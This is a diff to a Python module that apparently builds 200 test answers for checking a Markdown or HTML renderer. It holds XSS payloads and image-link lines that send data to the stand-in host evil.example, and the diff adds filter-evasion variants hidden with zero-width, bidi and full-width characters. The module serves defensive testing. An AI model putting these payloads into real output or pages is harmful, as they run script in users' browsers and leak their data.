@@ -1,7 +1,7 @@
 """Two hundred answers that try to run a script (`pwned`) or to send something out of the house."""
 
 from collections.abc import Iterator
-from itertools import islice
+from itertools import cycle, islice
 
 COUNT = 200
 OUT = "https://evil.example/?words="
@@ -86,6 +86,11 @@ LINKS = (
     "<a href='javascript:{run}' autofocus>x</a>",
     "<a xlink:href='javascript:{run}'>x</a>",
     "<area href='javascript:{run}'>",
+    "[x](java\u200bscript:{run})",
+    "[x](\u202etpircsavaj:{run})",
+    "[x](ｊａｖａｓｃｒｉｐｔ:{run})",
+    "[x](\ufeffjavascript:{run})",
+    "＜script＞{run}＜/script＞ <ſcript>{run}</ſcript> <img src=x onerror\u3000={run}>",
 )
 LEAKS = (
     "![x]({out}1)",
@@ -128,7 +133,6 @@ LEAKS = (
     "> - ![x]({out}39)\n>   1. ![x]({out}40)",
 )
 PLACES = (
-    "{attack}",
     "Here you are:\n\n- {attack}\n- **{attack}**",
     "| a | b |\n|---|---|\n| {attack} | x |",
     "```html\n{attack}\n```\n{attack}",
@@ -144,14 +148,18 @@ def answers() -> list[str]:
     return found
 
 
+def living() -> list[str]:
+    """Those that need nobody's click, as they are: a page that takes them for HTML is lost."""
+    return [_filled(attack) for attack in (*EVENTS, *SCRIPTS, *MUTATIONS, *LEAKS) if "<" in attack]
+
+
 def _placed() -> Iterator[str]:
-    """Every attack as it is, then inside of what Markdown has."""
-    attacks = [
-        attack.format(run=RUN, out=OUT)
-        for attack in (*EVENTS, *SCRIPTS, *MUTATIONS, *LINKS, *LEAKS)
-    ]
-    for place in PLACES:
-        for attack in attacks:
-            one_line = place.startswith("|") and "\n" in attack
-            if not one_line:
-                yield place.format(attack=attack)
+    """Every attack as it is, then inside of what Markdown has, of each kind as many."""
+    attacks = [_filled(attack) for attack in (*EVENTS, *SCRIPTS, *MUTATIONS, *LINKS, *LEAKS)]
+    yield from attacks
+    for attack, place in zip(attacks, cycle(PLACES)):
+        yield place.format(attack=attack.replace("\n", " ") if place.startswith("|") else attack)
+
+
+def _filled(attack: str) -> str:
+    return attack.format(run=RUN, out=OUT)
